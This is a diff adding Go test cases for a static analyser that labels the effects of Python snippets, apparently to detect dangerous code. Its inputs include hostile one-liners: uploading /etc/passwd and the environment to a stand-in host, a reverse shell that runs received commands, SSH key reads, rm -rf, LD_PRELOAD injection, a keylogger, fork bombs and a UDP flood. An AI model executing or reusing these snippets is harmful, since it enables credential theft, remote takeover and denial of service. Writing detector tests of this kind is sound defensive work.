@@ -1,0 +1,102 @@
+package python
+
+import "testing"
+
+func TestEffects(t *testing.T) {
+	t.Parallel()
+	check(t, []example{
+		{"Path.unlink", "from pathlib import Path\nPath('/etc/passwd').unlink()", []string{"delete /etc/passwd"}},
+		{"Path.write_text", "from pathlib import Path\nPath('/etc/x').write_text('y')", []string{"write /etc/x"}},
+		{"Path.open", "import pathlib\nwith pathlib.Path('/etc/x').open('a') as f:\n    f.write('y')", []string{"append /etc/x"}},
+		{"Path.rename", "from pathlib import Path\nPath('/etc/x').rename('/etc/y')", []string{"move_src /etc/x", "move_dst /etc/y"}},
+		{"Path.home", "from pathlib import Path\n(Path.home() / '.ssh' / 'id_rsa').read_text()", []string{"read /home/sandbox/.ssh/id_rsa"}},
+		{"expanduser", "import os\nopen(os.path.expanduser('~/.ssh/id_rsa'))", []string{"read /home/sandbox/.ssh/id_rsa"}},
+		{"class of path kept", "from pathlib import Path\nP = Path('/etc')\nfor f in ['a', 'b']:\n    (P / f).unlink()", []string{"delete /etc/a", "delete /etc/b"}},
+		{"open modes", "open('a')\nopen('b', 'w')\nopen('c', mode='a')\nopen('d', 'r+')", []string{"read /workspace/a", "write /workspace/b", "append /workspace/c", "read /workspace/d", "write /workspace/d"}},
+		{"mode variable", "m = 'w'\nopen('/usr/bin/x', m)", []string{"write /usr/bin/x"}},
+		{"io.open", "import io\nio.open('/etc/x', 'w')", []string{"write /etc/x"}},
+		{"os.open flags", "import os\nos.open('/etc/x', os.O_WRONLY | os.O_CREAT)", []string{"write /etc/x"}},
+		{"rmtree alias", "from shutil import rmtree as r\nr('/etc')", []string{"delete /etc"}},
+		{"copy", "import shutil\nshutil.copy('/etc/passwd', '/tmp/x')", []string{"copy_src /etc/passwd", "copy_dst /tmp/x"}},
+		{"list", "import os\nos.listdir('/etc')", []string{"list /etc"}},
+		{"walk", "import os\nfor r, d, f in os.walk('/home'):\n    pass", []string{"list /home"}},
+		{"delete each of walk", "import os\nfor r, d, files in os.walk('/etc'):\n    for f in files:\n        os.remove(os.path.join(r, f))", []string{"list /etc", "call os.remove"}},
+		{"chmod", "import os, stat\nos.chmod('/etc/x', stat.S_IRWXU | stat.S_IRWXO)", []string{"chmod /etc/x"}},
+		{"chdir", "import os\nos.chdir('/etc')\nopen('x', 'w')", []string{"write /etc/x"}},
+		{"function called twice", "def w(p):\n    open(p, 'w')\nw('/etc/a')\nw('/etc/b')", []string{"write /etc/a", "write /etc/b"}},
+		{"many calls", "def w(p):\n    open(p, 'w')\nfor i in range(40):\n    w('/etc/%d' % i)\nw('/etc/zz')", []string{"call open"}},
+		{"uncalled function", "def w():\n    open('/etc/a', 'w')", []string{"write /etc/a"}},
+		{"method of uncalled class", "class A:\n    path = '/etc/a'\n    def w(self):\n        open(self.path, 'w')", []string{"write /etc/a"}},
+		{"attribute from __init__", "class A:\n    def __init__(self):\n        self.p = '/etc/a'\n    def w(self):\n        open(self.p, 'w')\nA().w()", []string{"write /etc/a"}},
+		{"callback", "import unknown\ndef cb(x):\n    open('/etc/a', 'w')\nunknown.register(cb)", []string{"write /etc/a"}},
+		{"lambda given away", "import unknown\nunknown.register(lambda: open('/etc/a', 'w'))", []string{"write /etc/a"}},
+		{"written from net", "import requests\nr = requests.get('http://x.test/a')\nopen('/usr/a', 'w').write(r.text)", []string{"net request x.test", "write /usr/a < net:x.test"}},
+
+		{"requests", "import requests\nrequests.post('http://x.test/a', data=open('/etc/passwd').read())", []string{"net upload x.test", "carries file:/etc/passwd"}},
+		{"session", "import requests\ns = requests.Session()\ns.get('https://x.test')", []string{"net request x.test"}},
+		{"session with", "import requests\nwith requests.Session() as s:\n    s.post('https://x.test', json={'a': open('/etc/passwd').read()})", []string{"net upload x.test", "carries file:/etc/passwd"}},
+		{"urllib request object", "import urllib.request\nr = urllib.request.Request('http://x.test', data=b'x')\nurllib.request.urlopen(r)", []string{"net request x.test"}},
+		{"http.client", "import http.client\nc = http.client.HTTPConnection('x.test')\nc.request('POST', '/', open('/etc/passwd').read())", []string{"net request x.test", "carries file:/etc/passwd"}},
+		{"socket", "import socket\ns = socket.socket()\ns.connect(('x.test', 4444))", []string{"net connect x.test", "port 4444"}},
+		{"socket through function", "import socket\ndef c(h, p):\n    s = socket.socket()\n    s.connect((h, p))\nc('x.test', 4444)", []string{"net connect x.test", "port 4444"}},
+		{"socket with", "import socket\nwith socket.socket() as s:\n    s.connect(('x.test', 1))", []string{"net connect x.test"}},
+		{"socket in class", "import socket\nclass C:\n    def __init__(self):\n        self.s = socket.socket()\n    def go(self):\n        self.s.connect(('x.test', 1))\nC().go()", []string{"net connect x.test"}},
+		{"udp", "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b'x' * 60000, ('x.test', 1))", []string{"net send_udp x.test", "large"}},
+		{"udp huge", "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b'x' * 600000, ('x.test', 1))", []string{"large"}},
+		{"smtp", "import smtplib\ns = smtplib.SMTP('x.test', 25)\ns.sendmail('a', 'b', open('/etc/passwd').read())", []string{"net connect x.test", "net upload x.test", "carries file:/etc/passwd"}},
+		{"ftp", "import ftplib\nf = ftplib.FTP('x.test')\nf.storbinary('STOR a', open('/etc/passwd', 'rb'))", []string{"net upload x.test", "carries file:/etc/passwd"}},
+		{"paramiko", "import paramiko\nc = paramiko.SSHClient()\nc.connect('x.test')\nc.exec_command('id')", []string{"net connect x.test", "sh id"}},
+		{"aiohttp", "import aiohttp\nasync def f():\n    async with aiohttp.ClientSession() as s:\n        async with s.get('http://x.test') as r:\n            pass", []string{"net request x.test"}},
+		{"httpx", "import httpx\nwith httpx.Client() as c:\n    c.get('http://x.test')", []string{"net request x.test"}},
+		{"url parts", "import requests\nbase = 'http://x.test'\nrequests.get(base + '/a/' + str(3))", []string{"net request x.test"}},
+		{"url with hole", "import requests, sys\nrequests.get(f'http://x.test/{sys.argv[1]}')", []string{"net request x.test"}},
+		{"list of hosts", "import requests\nfor u in ['http://a.test', 'http://b.test']:\n    requests.get(u)", []string{"net request a.test", "net request b.test"}},
+		{"environment sent", "import os, requests, json\nrequests.post('http://x.test', data=json.dumps(dict(os.environ)))", []string{"net upload x.test"}},
+		{"received code", "import socket, subprocess\ns = socket.socket()\ns.connect(('x.test', 1))\nwhile True:\n    subprocess.run(s.recv(99).decode(), shell=True)", []string{"struct recv_exec", "dyn opaque_code"}},
+
+		{"argv", "import subprocess\nsubprocess.run(['rm', '-rf', '/x'])", []string{"cmd rm -rf /x"}},
+		{"argv parts", "import subprocess as sp\ncmd = ['rm']\ncmd.append('-rf')\ncmd += ['/x']\nsp.Popen(cmd)", []string{"cmd rm -rf /x"}},
+		{"argv unpacked", "import subprocess\nf = ['-rf', '/x']\nsubprocess.check_call(['rm', *f])", []string{"cmd rm -rf /x"}},
+		{"sudo", "import subprocess\nsubprocess.run(['sudo', 'rm', '-rf', '/x'])", []string{"cmd rm -rf /x"}},
+		{"unknown program", "import subprocess, sys\nsubprocess.run([sys.argv[1]])", []string{"dyn opaque_command"}},
+		{"execv", "import os\nos.execvp('rm', ['rm', '-rf', '/x'])", []string{"cmd rm -rf /x"}},
+		{"spawn", "import pty\npty.spawn('/bin/sh')", []string{"act interactive_shell"}},
+		{"asyncio exec", "import asyncio\nasync def f():\n    await asyncio.create_subprocess_exec('rm', '-rf', '/x')", []string{"cmd rm -rf /x"}},
+		{"popen", "import os\nos.popen('id').read()", []string{"sh id"}},
+		{"input", "import subprocess\nsubprocess.run(['sh'], input='id', text=True)", []string{"sh id"}},
+
+		{"env subscript", "import os\nos.environ['AWS_SECRET_ACCESS_KEY']", []string{"env read AWS_SECRET_ACCESS_KEY"}},
+		{"env get", "from os import environ as e\ne.get('X')", []string{"env read X"}},
+		{"getenv", "import os\nos.getenv('X')", []string{"env read X"}},
+		{"env write", "import os\nos.environ['LD_PRELOAD'] = '/x.so'", []string{"env write LD_PRELOAD"}},
+		{"env update", "import os\nos.environ.update({'LD_PRELOAD': '/x.so'})", []string{"env write LD_PRELOAD"}},
+		{"env printed", "import os\nprint(os.environ)", []string{"env dump "}},
+		{"env dumped by loop", "import os\nfor k in os.environ:\n    print(k)", []string{"env dump "}},
+		{"env passed on", "import os, subprocess\nsubprocess.run(['git', 'status'], env=os.environ)", []string{"!env dump"}},
+		{"env copied and passed on", "import os, subprocess\ne = os.environ.copy()\ne['A'] = 'b'\nsubprocess.run(['git'], env=e)", []string{"!env dump"}},
+
+		{"kill", "import os, signal\nos.kill(1, signal.SIGKILL)", []string{"act kill"}},
+		{"setuid", "import os\nos.setuid(0)", []string{"act setuid"}},
+		{"ctypes", "import ctypes\nctypes.CDLL(None).system(b'id')", []string{"act native_code", "sh id"}},
+		{"ctypes cdll", "from ctypes import cdll\ncdll.LoadLibrary('libc.so.6').system(b'id')", []string{"act native_code", "sh id"}},
+		{"pickle", "import pickle\npickle.load(open('x', 'rb'))", []string{"act deserialise"}},
+		{"psutil", "import psutil\npsutil.cpu_percent()", []string{"act host_watch"}},
+		{"screen", "from PIL import ImageGrab\nImageGrab.grab()", []string{"act screen"}},
+		{"keys", "from pynput import keyboard\ndef p(k): open('/tmp/k', 'a').write(str(k))\nwith keyboard.Listener(on_press=p) as l:\n    l.join()", []string{"act keys", "append /tmp/k"}},
+	})
+}
+
+func TestShapes(t *testing.T) {
+	t.Parallel()
+	check(t, []example{
+		{"fork bomb", "import os\nwhile True:\n    os.fork()", []string{"struct fork_bomb"}},
+		{"fork bomb 1", "import os\nwhile 1: os.fork()", []string{"struct fork_bomb"}},
+		{"fork bomb in function", "import os\ndef f():\n    os.fork()\nwhile True:\n    f()", []string{"struct fork_bomb"}},
+		{"recursive fork", "import os\ndef f():\n    os.fork()\n    f()\nf()", []string{"struct fork_bomb"}},
+		{"processes", "import multiprocessing\ndef w(): pass\nwhile True:\n    multiprocessing.Process(target=w).start()", []string{"struct fork_bomb"}},
+		{"popen of itself", "import subprocess, sys\nwhile True:\n    subprocess.Popen([sys.executable, __file__])", []string{"struct fork_bomb"}},
+		{"one fork", "import os\nif os.fork() == 0:\n    os._exit(0)", []string{"!struct"}},
+		{"worker loop that ends", "import os\nwhile True:\n    if os.fork():\n        break", []string{"!struct"}},
+		{"flood", "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nwhile True:\n    s.sendto(b'x' * 60000, ('10.0.0.1', 1))", []string{"struct infinite_loop", "large"}},
+	})
+}
